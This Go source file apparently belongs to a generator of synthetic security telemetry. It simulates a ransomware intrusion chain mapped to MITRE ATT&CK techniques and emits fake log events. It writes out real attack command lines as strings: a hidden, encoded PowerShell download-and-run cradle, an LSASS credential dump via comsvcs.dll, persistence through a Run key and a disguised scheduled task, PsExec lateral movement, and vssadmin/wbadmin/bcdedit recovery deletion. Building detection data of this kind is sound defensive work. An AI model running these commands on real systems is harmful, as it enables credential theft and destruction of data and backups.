package attack

import (
	"fmt"
	"strings"

	"socrates/generator/life"
	"socrates/generator/org"
	"socrates/generator/tick"
	"socrates/generator/trace"
)

func init() {
	victim := Param{"on", PersonKind, "whose device", false}
	need := func(o *org.Org, a Args) []Need { return onDevice(a.Person("on")) }
	register(Activity{Name: "payload", Doc: "The victim runs the downloaded file; it starts an encoded PowerShell that fetches and starts the implant.", Technique: "T1059.001", Tactic: "Execution",
		Params: []Param{victim, {"script", FileKind, "the file that is downloaded and run", false}, {"implant", FileKind, "the implant it drops", false}, {"domain", DomainKind, "where it comes from", false}, {"address", AddressKind, "address of that", false}},
		Needs: func(o *org.Org, a Args) []Need {
			return append(onDevice(a.Person("on")), Need{"domain", a.Text("domain", "")}, Need{"file", a.File("implant").SHA256})
		}, Run: payload})
	register(Activity{Name: "discovery", Doc: "The implant asks who and where it is.", Technique: "T1087.002", Tactic: "Discovery", Params: []Param{victim, {"implant", FileKind, "the implant", false}}, Needs: need, Run: discovery})
	register(Activity{Name: "run-key", Doc: "The implant writes itself into the Run key.", Technique: "T1547.001", Tactic: "Persistence", Params: []Param{victim, {"implant", FileKind, "the implant", false}}, Needs: need, Run: runKey})
	register(Activity{Name: "scheduled-task", Doc: "The implant registers a scheduled task.", Technique: "T1053.005", Tactic: "Persistence", Params: []Param{victim, {"implant", FileKind, "the implant", false}}, Needs: need, Run: scheduledTask})
	register(Activity{Name: "beacon", Doc: "The implant calls home, with jitter, for some hours.", Technique: "T1071.001", Tactic: "CommandAndControl",
		Params: []Param{victim, {"implant", FileKind, "the implant", false}, {"domain", DomainKind, "host name", true}, {"address", AddressKind, "address", false}, {"every", SpanKind, "interval", true}, {"for", SpanKind, "how long", true}},
		Needs: func(o *org.Org, a Args) []Need {
			return append(onDevice(a.Person("on")), Need{"address", a.Address("address").IP}, Need{"file", a.File("implant").SHA256})
		}, Run: beacon})
	register(Activity{Name: "credential-dump", Doc: "LSASS is read through comsvcs.dll.", Technique: "T1003.001", Tactic: "CredentialAccess", Params: []Param{victim, {"implant", FileKind, "the implant", false}}, Needs: need, Run: credentialDump})
	register(Activity{Name: "lateral-smb", Doc: "The stolen account opens a server over SMB and starts a service there.", Technique: "T1569.002", Tactic: "LateralMovement",
		Params: []Param{victim, {"as", PersonKind, "account used", false}, {"to", DeviceKind, "server", false}, {"implant", FileKind, "what runs there", false}},
		Needs: func(o *org.Org, a Args) []Need {
			return append(onDevice(a.Person("on")), Need{"account", a.Person("as").ObjectID}, Need{"device", a.Device("to").ID})
		}, Run: lateral})
	register(Activity{Name: "shadow-copies", Doc: "Shadow copies and recovery are removed.", Technique: "T1490", Tactic: "Impact", Params: []Param{{"at", DeviceKind, "server", false}, {"implant", FileKind, "the implant", false}},
		Needs: func(o *org.Org, a Args) []Need { return []Need{{"device", a.Device("at").ID}} }, Run: shadowCopies})
	register(Activity{Name: "encrypt", Doc: "Files are encrypted and a note is left.", Technique: "T1486", Tactic: "Impact", Params: []Param{{"at", DeviceKind, "server", false}, {"implant", FileKind, "the encryptor", false}, {"count", NumberKind, "files", true}},
		Needs: func(o *org.Org, a Args) []Need { return []Need{{"device", a.Device("at").ID}} }, Run: encrypt})
}

// implantOf is the running implant: the same process id and birth in every activity that speaks of it. Born is the
// start of the stage that brought it, which the scenario passes on.
func implantOf(e trace.Env, d *life.Day, a Args) *trace.Proc {
	im := a.File("implant")
	born := a.Number(Born, d.Arrive+time)
	pid := func(shift int) int64 { return 4 * (1500 + int64(d.P.Device.Hash>>shift%2000)) }
	wscript := trace.New(d.P.Device, e.O.Image(d.P.Device, "wscript.exe"), d.Explorer.User, d.Explorer, born+20*tick.Second, pid(3), scriptCommand(d, a.File("script")))
	ps := trace.New(d.P.Device, e.O.Image(d.P.Device, "powershell.exe"), d.Explorer.User, wscript, born+22*tick.Second, pid(5), fetchCommand(a.Text("domain", ""), im))
	return trace.New(d.P.Device, im, d.Explorer.User, ps, born+30*tick.Second, pid(9), "")
}

// Born is the hidden argument that holds when the implant of a later stage was started.
const Born = "born"

// time is how long after arrival an implant starts that no stage of the scenario brought.
const time = 61 * tick.Minute

func scriptCommand(d *life.Day, script *org.Image) string {
	if script == nil {
		return "wscript.exe"
	}
	return `"C:\Windows\System32\WScript.exe" "` + `C:\Users\` + d.P.Sam + `\Downloads\` + script.File + `"`
}

func fetchCommand(domain string, im *org.Image) string {
	code := fmt.Sprintf("$w=New-Object Net.WebClient;$w.DownloadFile('https://%s/u/%s',\"$env:APPDATA\\%s\");Start-Process \"$env:APPDATA\\%s\"", domain, im.File, im.File, im.File)
	return "powershell.exe -w hidden -nop -ep bypass -enc " + life.Encode(code)
}

func payload(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	script, host := a.File("script"), a.Text("domain", "")
	implant := implantOf(e, d, a)
	ps := implant.Parent
	path := `C:\Users\` + d.P.Sam + `\Downloads\` + script.File
	e.File(d.Edge, at, trace.FileEvent{Action: "FileCreated", Path: path, Image: script, OriginURL: "https://" + host + "/d/" + script.File, OriginIP: a.Address("address").IP})
	e.Started(ps.Parent)
	e.Started(ps)
	e.Event(ps, at+23*tick.Second, "PowerShellCommand", `{"Command":"Start-Process"}`, nil, "")
	e.Connect(ps, at+24*tick.Second, trace.Flow{LocalIP: d.IP, RemoteIP: a.Address("address").IP, Port: 443, URL: host, Site: d.Firewall(), Sent: 812, Received: implant.Image.Size + 4200})
	e.File(ps, at+27*tick.Second, trace.FileEvent{Action: "FileCreated", Path: implant.Path(), Image: implant.Image, OriginURL: "https://" + host + "/u/" + implant.Image.File, OriginIP: a.Address("address").IP})
	e.Started(implant)
}

func discovery(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	p := implantOf(e, d, a)
	for _, c := range [][2]string{{"whoami.exe", "whoami /all"}, {"net.exe", `net group "Domain Admins" /domain`}, {"nltest.exe", "nltest /domain_trusts"}, {"systeminfo.exe", "systeminfo"}, {"ipconfig.exe", "ipconfig /all"}} {
		shell := e.Start(d.P.Device, e.O.Image(d.P.Device, "cmd.exe"), p.User, p, at, "cmd.exe /c "+c[1])
		e.Start(d.P.Device, e.O.Image(d.P.Device, c[0]), p.User, shell, at+40*tick.Millisecond, c[1])
		at += e.R.Around(20*tick.Second, 12*tick.Second)
	}
}

func runKey(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	p := implantOf(e, d, a)
	e.Registry(p, at, `HKEY_CURRENT_USER\`+d.P.SID+`\Software\Microsoft\Windows\CurrentVersion\Run`, strings.TrimSuffix(p.Image.File, ".exe"), "String", p.Path())
}

func scheduledTask(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	p := implantOf(e, d, a)
	e.Start(d.P.Device, e.O.Image(d.P.Device, "schtasks.exe"), p.User, p, at, fmt.Sprintf(`schtasks /create /tn "OneDrive Standalone Update Helper" /tr "%s" /sc minute /mo 30 /f`, p.Path()))
	e.Event(p, at+tick.Second, "ScheduledTaskCreated", `{"TaskName":"\\OneDrive Standalone Update Helper"}`, nil, "")
}

func beacon(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	p := implantOf(e, d, a)
	every, end := a.Number("every", 5*tick.Minute), min(at+a.Number("for", 6*tick.Hour), d.Leave)
	for ; at < end; at += e.R.Around(every, every/4) {
		e.Connect(p, at, trace.Flow{LocalIP: d.IP, RemoteIP: a.Address("address").IP, Port: 443, URL: a.Text("domain", ""), Site: d.Firewall(), Sent: e.R.Between(380, 460), Received: e.R.Between(180, 240)})
	}
}

func credentialDump(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	p := implantOf(e, d, a)
	dump := `C:\Windows\Temp\dm.tmp`
	r := e.Start(d.P.Device, e.O.Image(d.P.Device, "rundll32.exe"), trace.System, p, at, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 712 `+dump+` full`)
	e.Event(r, at+tick.Second, "OpenProcessApiCall", `{"DesiredAccess":2097151}`, e.O.Image(d.P.Device, "lsass.exe"), "")
	e.File(r, at+3*tick.Second, trace.FileEvent{Action: "FileCreated", Path: dump, Image: org.NewImage("dm.tmp", "", "", "", "", "", e.R.Hex(8), 58_112_014)})
}

func lateral(e trace.Env, at int64, a Args) {
	d, to, as := day(e, a.Person("on"), at), a.Device("to"), a.Person("as")
	acc := as.Account
	if as.Admin != nil {
		acc = as.Admin
	}
	p := implantOf(e, d, a)
	e.Connect(p, at, trace.Flow{LocalIP: d.IP, RemoteIP: to.IP, Port: 445, URL: to.FQDN})
	e.Logon(at+tick.Second, trace.Logon{Account: acc, Device: to, Type: "Network", From: d.P.Device, FromIP: d.IP, Proto: "NTLM"})
	services := trace.New(to, e.O.Image(to, "services.exe"), trace.System, nil, at-9*tick.Day, 748, "services.exe")
	svc := e.Start(to, e.O.Image(to, "psexesvc.exe"), trace.System, services, at+3*tick.Second, `C:\Windows\PSEXESVC.exe`)
	e.File(svc, at+2*tick.Second, trace.FileEvent{Action: "FileCreated", Path: `C:\Windows\PSEXESVC.exe`, Image: svc.Image, Share: "ADMIN$", Remote: d.IP})
	e.Event(svc, at+3*tick.Second, "ServiceInstalled", `{"ServiceName":"PSEXESVC","ServiceAccount":"LocalSystem"}`, svc.Image, "")
	cmd := e.Start(to, e.O.Image(to, "cmd.exe"), trace.System, svc, at+5*tick.Second, `"cmd.exe" /c `+a.File("implant").File)
	e.Start(to, a.File("implant"), trace.System, cmd, at+6*tick.Second, "")
}

func serverImplant(e trace.Env, at int64, d *org.Device, im *org.Image) *trace.Proc {
	services := trace.New(d, e.O.Image(d, "services.exe"), trace.System, nil, at-9*tick.Day, 748, "services.exe")
	return trace.New(d, im, trace.System, services, at-10*tick.Minute, 6612, "")
}

func shadowCopies(e trace.Env, at int64, a Args) {
	d := a.Device("at")
	p := serverImplant(e, at, d, a.File("implant"))
	for _, c := range [][2]string{{"vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"}, {"wbadmin.exe", "wbadmin delete catalog -quiet"}, {"bcdedit.exe", "bcdedit /set {default} recoveryenabled no"}} {
		e.Start(d, e.O.Image(d, c[0]), trace.System, p, at, c[1])
		at += e.R.Between(1, 4) * tick.Second
	}
}

func encrypt(e trace.Env, at int64, a Args) {
	d := a.Device("at")
	p := serverImplant(e, at, d, a.File("implant"))
	for i := range a.Number("count", 120) {
		name := fmt.Sprintf("%s %d.xlsx", e.O.Projects[int(i)%len(e.O.Projects)], i)
		im := org.NewImage(name+".vlkd", "", "", "", "", "", e.R.Hex(8), e.R.Between(9_000, 4_000_000))
		old := `D:\Shares\Departments\` + name
		e.File(p, at, trace.FileEvent{Action: "FileRenamed", Path: old + ".vlkd", Previous: old, Image: im})
		at += e.R.Between(20, 400) * tick.Millisecond
	}
	e.File(p, at, trace.FileEvent{Action: "FileCreated", Path: `D:\Shares\Departments\HOW_TO_RESTORE.txt`, Image: org.NewImage("HOW_TO_RESTORE.txt", "", "", "", "", "", "note", 2114)})
}
